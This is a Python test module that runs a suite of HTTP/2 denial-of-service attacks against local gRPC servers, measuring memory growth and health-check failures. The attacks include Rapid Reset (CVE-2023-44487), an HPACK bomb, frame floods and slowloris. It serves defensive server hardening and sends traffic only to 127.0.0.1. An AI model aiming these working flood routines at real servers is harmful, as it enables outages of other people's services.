"""The attacks of issue 15 on a gRPC server, shared by the attack suite (``test_h2_attacks.py``,
which asserts what ``grpc_h2c`` must answer) and by a report that runs them against both
``grpc_h2c`` and ``grpc.aio`` and prints the README's table::

    .venv/bin/python -m tests.integration.h2_attacks

Each attack runs against a fresh server in its own process, while a second client's health
checks are sampled together with the server's RSS. Traffic goes to 127.0.0.1 only; every attack
is bounded in frames and in seconds (``ATTACK_SECONDS``) and stops by itself."""

from __future__ import annotations

import json
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc

from sidegate.grpc_h2c import frames
from sidegate.grpc_h2c.frames import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    GOAWAY,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
)
from tests.unit.h2_factory import Client, request_headers

ROOT = Path(__file__).resolve().parents[2]
RSS_BOUND = 120 << 20  # growth over the idle server's RSS while attacked; the old server grew 584 MB
LIMITS = {"preface_timeout": 2.0, "idle_timeout": 2.0, "stream_idle_timeout": 3.0, "tick": 0.2, "max_connections": 48}
ATTACK_SECONDS = 20.0  # no attack sends for longer
CODES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x7: "REFUSED_STREAM",
    0x9: "COMPRESSION_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
}


def rss(pid: int) -> int:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 0


@dataclass
class Watch:
    """Health checks from a second client, and the server's RSS, sampled until stopped."""

    port: int
    pid: int
    answered: int = 0
    failures: list[str] = field(default_factory=list)
    peak: int = 0
    stop: threading.Event = field(default_factory=threading.Event)

    def run(self) -> None:
        with grpc.insecure_channel(f"127.0.0.1:{self.port}") as channel:
            stub = health_pb2_grpc.HealthStub(channel)
            while not self.stop.is_set():
                try:
                    reply = stub.Check(health_pb2.HealthCheckRequest(), timeout=5)
                    if reply.status == health_pb2.HealthCheckResponse.SERVING:
                        self.answered += 1
                except grpc.RpcError as error:
                    self.failures.append(str(error.code()))
                self.peak = max(self.peak, rss(self.pid))
                self.stop.wait(0.05)


@dataclass
class Server:
    port: int
    process: subprocess.Popen[str]
    baseline: int

    @classmethod
    def start(cls, layer: str = "grpc_h2c") -> Server:
        argv = [sys.executable, "-m", "tests.integration.h2_attack_server", json.dumps(LIMITS), layer]
        process = subprocess.Popen(argv, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        assert process.stdout is not None
        port = int(process.stdout.readline())
        time.sleep(0.2)
        return cls(port, process, rss(process.pid))

    def stop(self) -> str:
        """Stop it; what it wrote to stderr."""
        self.process.terminate()
        try:
            _out, err = self.process.communicate(timeout=10)
        except subprocess.TimeoutExpired:
            self.process.kill()
            _out, err = self.process.communicate()
        return err


class Attacker:
    """One raw connection: sends until the server closes or time is up; reads every frame."""

    def __init__(self, port: int, preface: bytes | None = None) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.port = port
        self.client = Client()
        self.goaway: int | None = None
        self.resets: dict[int, int] = {}
        self.closed = threading.Event()
        self.deadline = time.monotonic() + ATTACK_SECONDS
        self.crowd: list[Attacker] = []  # more connections the attack opened
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reader.start()
        if preface is not None:
            self.send(preface)

    def read(self) -> None:
        buffer = b""
        try:
            while chunk := self.sock.recv(1 << 16):
                buffer += chunk
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    kind, stream, payload = buffer[3], int.from_bytes(buffer[5:9], "big"), buffer[9 : 9 + length]
                    buffer = buffer[9 + length :]
                    if kind == GOAWAY and self.goaway is None:
                        self.goaway = int(struct.unpack_from(">L", payload, 4)[0])
                    elif kind == RST_STREAM:
                        self.resets[stream] = int(struct.unpack(">L", payload)[0])
        except OSError:
            pass
        self.closed.set()

    def send(self, data: bytes) -> bool:
        """False once the server closed, answered GOAWAY, or the attack's time is up."""
        if self.goaway is not None or time.monotonic() > self.deadline:
            return False
        try:
            self.sock.sendall(data)
        except OSError:
            return False
        return True

    def flood(self, frame: bytes, count: int, batch: int = 1000) -> None:
        """``count`` copies of ``frame``, in batches, until the server ends the connection."""
        for _ in range(count // batch):
            if not self.send(frame * batch):
                return

    def ended(self, seconds: float = 15) -> int | None:
        self.closed.wait(seconds)
        return self.goaway

    def close(self) -> None:
        self.sock.close()
        for each in self.crowd:
            each.close()


# -- the attacks ----------------------------------------------------------------------------


def large_messages(attacker: Attacker) -> None:
    """150 streams, each announcing a 4 MiB message and sending 4 MiB - 1 of it, ignoring windows."""
    client = attacker.client
    attacker.send(b"".join(client.headers(sid, request_headers("/t.T/Hold")) for sid in range(1, 301, 2)))
    chunk = b"x" * 16_000
    for sid in range(1, 301, 2):
        if not attacker.send(client.data(sid, struct.pack(">BL", 0, 4 << 20) + chunk[:15_995])):
            return
        for _ in range(261):
            if not attacker.send(client.data(sid, chunk)):
                return
        if not attacker.send(client.data(sid, chunk[:2_308])):  # 4 MiB - 1 of the message in all
            return


def hpack_bomb(attacker: Attacker) -> None:
    """1,000 streams whose blocks name a 4 KB table entry 15 times: ~60 KiB decoded from ~1 KB."""
    client = attacker.client
    big = ("x-big", "b" * 4000)
    attacker.send(client.headers(1, [*request_headers("/t.T/Hold"), big]))
    for sid in range(3, 2001, 2):
        if not attacker.send(client.headers(sid, [*request_headers("/t.T/Hold"), *[big] * 15])):
            return


def idle_header_lists(attacker: Attacker) -> None:
    """1,000 idle streams with ~12 KiB header lists (3 references to a 4 KB entry), no DATA."""
    client = attacker.client
    big = ("x-big", "b" * 4000)
    for sid in range(1, 2001, 2):
        if not attacker.send(client.headers(sid, [*request_headers("/t.T/Hold"), *[big] * 3])):
            return


def settings_flood_over_held_answers(attacker: Attacker) -> None:
    """INITIAL_WINDOW_SIZE=0, 100 answers held by flow control, then a flood of SETTINGS."""
    client = attacker.client
    attacker.send(frames.settings((frames.SETTINGS_INITIAL_WINDOW_SIZE, 0)))
    attacker.send(b"".join(client.call(sid, b"held") for sid in range(1, 201, 2)))
    attacker.flood(frames.settings((frames.SETTINGS_INITIAL_WINDOW_SIZE, 0)), 300_000)


def rapid_reset(attacker: Attacker) -> None:
    """Streams opened and reset at once (CVE-2023-44487), 1,000 to a write."""
    client = attacker.client
    for start in range(1, 4_000_000, 2_000):
        batch = b"".join(client.headers(sid) + frames.rst_stream(sid, CANCEL) for sid in range(start, start + 2_000, 2))
        if not attacker.send(batch):
            return


def flood(frame: bytes, opening: Callable[[Client], bytes] | None = None) -> Callable[[Attacker], None]:
    def body(attacker: Attacker) -> None:
        if opening is not None:
            attacker.send(opening(attacker.client))
        attacker.flood(frame, 1_000_000)

    body.__doc__ = f"a million frames of type {frame[3]}"
    return body


def _open(client: Client) -> bytes:
    return frames.frame(HEADERS, END_HEADERS, 1, client.block(request_headers("/t.T/Hold")))


def _open_block(client: Client) -> bytes:
    return frames.frame(HEADERS, 0, 1, client.block(request_headers("/t.T/Hold")))


def partial_prefaces(attacker: Attacker) -> None:
    """Slowloris: a partial preface on this and on more connections than the cap allows."""
    attacker.send(frames.PREFACE[:10])
    for _ in range(int(LIMITS["max_connections"]) + 10):
        attacker.crowd.append(Attacker(attacker.port, frames.PREFACE[:10]))


def idle(_attacker: Attacker) -> None:
    """A connection that says nothing after its preface."""


def goaway_then_frames(attacker: Attacker) -> None:
    """The client's GOAWAY, then PINGs and calls."""
    attacker.send(frames.goaway(0, frames.NO_ERROR))
    time.sleep(0.2)
    for _ in range(20):
        attacker.send(frames.frame(PING, 0, 0, b"\0" * 8) + attacker.client.call(1, b"x"))


@dataclass(frozen=True)
class Attack:
    name: str
    body: Callable[[Attacker], None]
    preface: bool = True


ATTACKS = (
    Attack("150 streams each announcing a 4 MiB message and sending 4 MiB - 1", large_messages),
    Attack("HPACK blocks of ~1 KB decoding to ~60 KiB each", hpack_bomb),
    Attack("1,000 idle streams with ~12 KiB header lists", idle_header_lists),
    Attack("INITIAL_WINDOW_SIZE=0, answers held, then a SETTINGS flood", settings_flood_over_held_answers),
    Attack("Rapid Reset (CVE-2023-44487)", rapid_reset),
    Attack("PING flood", flood(frames.frame(PING, 0, 0, b"\0" * 8))),
    Attack("SETTINGS flood", flood(frames.settings())),
    Attack("PRIORITY flood", flood(frames.frame(PRIORITY, 0, 3, struct.pack(">LB", 0, 1)))),
    Attack("WINDOW_UPDATE flood", flood(frames.window_update(0, 1))),
    Attack("empty DATA flood", flood(frames.frame(DATA, 0, 1, b""), _open)),
    Attack("zero-length CONTINUATION flood", flood(frames.frame(CONTINUATION, 0, 1, b""), _open_block)),
    Attack("partial prefaces (slowloris), connections past the cap", partial_prefaces, preface=False),
    Attack("an idle connection", idle),
    Attack("client GOAWAY, then any frame", goaway_then_frames),
)


@dataclass
class Outcome:
    attacker: Attacker
    watch: Watch
    growth: int  # bytes of RSS over the idle server's

    def summary(self) -> str:
        code = self.attacker.goaway
        said = "no GOAWAY" if code is None else f"GOAWAY {CODES.get(code, hex(code))}"
        refused = sum(1 for c in self.attacker.resets.values() if c == frames.REFUSED_STREAM)
        if refused:
            said += f", {refused} REFUSED_STREAM"
        health = "health answered" if not self.watch.failures else f"{len(self.watch.failures)} health checks failed"
        return f"{said}; RSS +{self.growth >> 20} MiB; {health}"


def run(server: Server, attack: Attack) -> Outcome:
    watch = Watch(server.port, server.process.pid)
    thread = threading.Thread(target=watch.run, daemon=True)
    thread.start()
    time.sleep(0.3)  # the health client is connected before the attack starts
    attacker = Attacker(server.port, Client().preface() if attack.preface else None)
    try:
        attack.body(attacker)
        attacker.ended()
        for each in attacker.crowd:
            each.ended(10)
        time.sleep(0.3)
    finally:
        attacker.close()
        watch.stop.set()
        thread.join(15)
    return Outcome(attacker, watch, max(0, watch.peak - server.baseline))


def main() -> None:
    """Every attack against both servers: the README's table, one row per attack."""
    rows = []
    for attack in ATTACKS:
        cells = []
        for layer in ("grpc.aio", "grpc_h2c"):
            server = Server.start(layer)
            try:
                cells.append(run(server, attack).summary())
            finally:
                server.stop()
        rows.append(f"| {attack.name} | {cells[0]} | {cells[1]} |")
        print(rows[-1], flush=True)


if __name__ == "__main__":
    main()
